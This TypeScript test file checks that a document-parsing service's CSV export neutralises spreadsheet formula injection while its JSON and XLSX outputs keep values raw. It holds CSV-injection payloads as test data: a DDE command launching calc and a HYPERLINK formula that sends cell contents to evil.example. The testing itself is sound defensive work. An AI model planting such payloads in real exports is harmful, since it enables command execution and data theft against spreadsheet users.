// CSV injection through every way a value reaches a CSV: extracted from a PDF whose cells begin
// with = + - @, typed by a reviewer, and posted to the stateless export. The CSV carries each such
// field with a single quote in front (a plain number such as -12.5 as it is); json and xlsx keep
// the raw value.
import assert from "node:assert/strict";
import fs from "node:fs";
import { after, before, describe, test } from "node:test";
import ExcelJS from "exceljs";
import type { Result } from "../../lib/result/schema";
import { TestPdf } from "../../tests/pdf/make-pdf";
import { createKey, getJob, signIn, submit, USER_AGENT, waitForJob } from "../support/api";
import { makeDisputed } from "../support/review";
import { startStack, type Stack } from "../support/stack";

/** Formulas a spreadsheet would run, and numbers it must keep. */
const FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"];
const NUMBERS = ["-12.5", "+3"];

let stack: Stack;
let key: string;
let owner: string;
let jobId: string;

async function formulaPdfBytes(): Promise<Uint8Array> {
  const pdf = await TestPdf.create();
  const page = pdf.addPage();
  pdf.text(page, "Imported values", 60, 60, 16, true);
  pdf.table(page, {
    x: 60,
    y: 100,
    colWidths: [150, 110, 90],
    rowHeight: 20,
    style: "grid",
    rows: [
      ["Item", "Formula", "Amount"],
      ["first", FORMULAS[0]!, NUMBERS[0]!],
      ["second", FORMULAS[1]!, NUMBERS[1]!],
      ["third", FORMULAS[2]!, "7"],
      ["fourth", FORMULAS[3]!, "8"],
    ],
  });
  return new Uint8Array(fs.readFileSync(await pdf.save("csv-injection")));
}

/** A strict RFC 4180 reader, enough for these files (no field holds a line break). */
function csvRecords(text: string): string[][] {
  return text
    .replace(/^\uFEFF/, "")
    .split("\r\n")
    .filter((line) => line !== "")
    .map((line) => {
      const fields: string[] = [];
      let field = "";
      let quoted = false;
      for (let i = 0; i < line.length; i++) {
        const c = line[i]!;
        if (quoted && c === '"' && line[i + 1] === '"') {
          field += '"';
          i++;
        } else if (c === '"') quoted = !quoted;
        else if (c === "," && !quoted) {
          fields.push(field);
          field = "";
        } else field += c;
      }
      fields.push(field);
      return fields;
    });
}

const exportOf = async (format: "csv" | "xlsx") =>
  fetch(`${stack.baseUrl}/v1/parse/${jobId}/export?format=${format}`, {
    headers: { "user-agent": USER_AGENT, authorization: `Bearer ${key}` },
  });

before(async () => {
  stack = await startStack();
  key = await createKey(stack, "sheets@example.com");
  owner = await signIn(stack, "sheets@example.com");
  const accepted = await submit(stack, {
    bytes: await formulaPdfBytes(),
    name: "formulas.pdf",
    headers: { authorization: `Bearer ${key}` },
  });
  assert.equal(accepted.status, 202, JSON.stringify(accepted.body));
  jobId = String(accepted.body.id);
  const done = await waitForJob(stack, jobId, { authorization: `Bearer ${key}` });
  assert.equal(done.body.status, "done", JSON.stringify(done.body));
});

after(async () => {
  await stack?.stop();
});

describe("CSV injection", () => {
  test("extracted formulas: quoted in csv, raw in json and xlsx; plain numbers untouched", async () => {
    const job = await getJob(stack, jobId, { authorization: `Bearer ${key}` });
    const values = (job.body.result as Result).tables.flatMap((table) => table.rows.flat().map((cell) => cell.value));
    for (const raw of [...FORMULAS, ...NUMBERS]) assert.ok(values.includes(raw), `json keeps ${raw} (got ${JSON.stringify(values)})`);

    const csv = await exportOf("csv");
    assert.equal(csv.status, 200);
    const fields = csvRecords(await csv.text()).flat();
    for (const formula of FORMULAS) {
      assert.ok(fields.includes(`'${formula}`), `csv neutralises ${formula}: ${JSON.stringify(fields)}`);
      assert.ok(!fields.includes(formula), `csv does not carry ${formula} bare`);
    }
    for (const number of NUMBERS) assert.ok(fields.includes(number), `csv keeps the number ${number}`);
    assert.ok(
      fields.every((field) => !/^[=+@\t\r]/.test(field) || NUMBERS.includes(field)),
      JSON.stringify(fields),
    );
    assert.ok(
      fields.every((field) => !field.startsWith("-") || NUMBERS.includes(field)),
      JSON.stringify(fields),
    );

    const xlsx = await exportOf("xlsx");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const sheet of book.worksheets) sheet.eachRow((row) => (row.values as unknown[]).forEach((value) => texts.push(String(value))));
    for (const formula of FORMULAS) assert.ok(texts.includes(formula), `xlsx keeps ${formula} raw: ${JSON.stringify(texts)}`);
  });

  test("a reviewer's edit that types a formula is quoted in csv and kept raw in json", async () => {
    const cells = makeDisputed(stack, jobId);
    const typed = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const saved = await fetch(`${stack.baseUrl}/jobs/${jobId}/review/cells`, {
      method: "POST",
      headers: { "user-agent": USER_AGENT, "content-type": "application/json", origin: stack.baseUrl, cookie: owner },
      body: JSON.stringify({ cell: cells.disputed, version: 0, action: "confirm", value: typed }),
    });
    assert.equal(saved.status, 200, await saved.clone().text());
    const job = await getJob(stack, jobId, { authorization: `Bearer ${key}` });
    assert.ok(
      (job.body.result as Result).tables.some((table) => table.rows.flat().some((cell) => cell.value === typed)),
      "json keeps the typed value",
    );
    const fields = csvRecords(await (await exportOf("csv")).text()).flat();
    assert.ok(fields.includes(`'${typed}`), JSON.stringify(fields));
    assert.ok(!fields.includes(typed));
  });

  test("the stateless export quotes formulas in a posted dataset", async () => {
    const job = await getJob(stack, jobId, { authorization: `Bearer ${key}` });
    const dataset = job.body.result as Result;
    dataset.tables[0]!.rows[0]![0]!.value = "@SUM(1)+\t-1";
    dataset.tables[0]!.rows[1]![0]!.value = "\t=1+1";
    dataset.tables[0]!.rows[2]![2]!.value = "-7.25";
    const response = await fetch(`${stack.baseUrl}/v1/export?format=csv`, {
      method: "POST",
      body: JSON.stringify(dataset),
      headers: { "user-agent": USER_AGENT, "content-type": "application/json" },
    });
    assert.equal(response.status, 200, await response.clone().text());
    const fields = csvRecords(await response.text()).flat();
    for (const formula of ["@SUM(1)+\t-1", "\t=1+1", ...FORMULAS])
      assert.ok(fields.includes(`'${formula}`), `${JSON.stringify(formula)} in ${JSON.stringify(fields)}`);
    // The reviewer's edit above replaced -12.5; +3 and the posted -7.25 stay numbers.
    for (const number of ["+3", "-7.25"]) assert.ok(fields.includes(number), `${number} in ${JSON.stringify(fields)}`);
  });
});
